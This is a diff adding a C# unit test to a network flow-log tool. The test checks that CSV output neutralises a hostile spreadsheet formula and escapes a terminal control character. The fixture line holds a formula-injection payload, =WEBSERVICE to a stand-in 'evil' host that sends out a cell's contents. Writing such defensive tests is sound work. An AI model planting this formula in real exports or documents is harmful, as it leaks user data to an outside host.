@@ -95,4 +95,16 @@ public class ParseCommandTests(GeneratedTraffic traffic)
 
         Assert.Equal((3, $"flowwatch: --output: '{traffic.Sweep}' is also what is read; name another file.\n"), (run.ExitCode, run.Error));
     }
+
+    [Fact]
+    public async Task Parse_CsvOfHostileValues_IsTextToASpreadsheetAndToATerminal()
+    {
+        using var folder = new TemporaryFolder();
+        var log = folder.File("a.log", "2 123456789012 =WEBSERVICE(\"http://evil/\"&B2) 203.0.113.7 10.0.0.5 40000 443 6 10 840 1767614400 1767614459 ACCEPT O\u009BK\n");
+
+        var csv = (await CommandRun.OfAsync("parse", log, "--format", "csv")).Output;
+
+        Assert.Contains(""","'=WEBSERVICE(""http://evil/""&B2)",""", csv, StringComparison.Ordinal);
+        Assert.Contains(@"O\u009BK", csv, StringComparison.Ordinal);
+    }
 }
